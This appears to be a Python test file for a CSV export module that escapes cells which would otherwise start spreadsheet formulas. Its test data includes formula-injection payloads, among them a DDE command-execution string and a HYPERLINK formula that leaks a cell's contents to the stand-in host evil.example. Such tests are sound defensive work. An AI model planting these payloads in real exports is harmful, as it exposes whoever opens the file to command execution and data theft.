import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quiz.exchange.csv_format import BYTE_ORDER_MARK, escape, lines, unescape

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '=1\n"two"',
    "'=1",
]


def read_back(text):
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_starts_a_formula_and_all_come_back_whole(cell):
    _, [stored] = read_back("".join(lines(["given"], [[cell]])))
    assert stored[0] == "'"
    assert unescape(stored) == cell


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=4))
def test_any_row_comes_back_as_it_was(row):
    header = [f"c{i}" for i in range(len(row))]
    stored = read_back("".join(lines(header, [row])))[1:]
    # The csv reader knows no difference between a blank line and one empty cell.
    assert [unescape(cell) for cell in (stored[0] if stored[0] else [""])] == row


@given(st.text())
def test_unescaping_undoes_escaping(text):
    assert unescape(escape(text)) == text


def test_harmless_text_is_left_alone():
    assert escape("12 million") == "12 million"


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell():
    assert list(lines(["a", "b", "c"], [[-1, 0.5, None]]))[1] == "-1,0.5,\r\n"


def test_the_file_begins_with_a_byte_order_mark_and_ends_lines_as_the_rfc_says():
    text = "".join(lines(["a"], [["b"]]))
    assert text == "\ufeffa\r\nb\r\n"


def test_quotes_commas_and_line_breaks_stay_inside_their_cell():
    assert list(lines(["a", "b"], [['say "hi", now', "two\nlines"]]))[1] == (
        '"say ""hi"", now","two\nlines"\r\n'
    )
